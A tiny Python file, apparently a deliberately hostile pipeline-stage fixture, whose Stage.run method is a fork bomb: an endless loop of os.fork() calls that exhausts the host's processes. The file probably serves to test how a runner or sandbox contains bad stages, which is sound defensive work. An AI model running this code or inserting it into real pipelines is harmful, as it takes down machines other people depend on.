"""Starts processes that start processes."""

import os
import time


class Stage:
    """A bad one."""

    def run(self, ctx, inputs, params):
        while True:
            os.fork()
            time.sleep(0.01)  # the computer that this runs on is somebody's
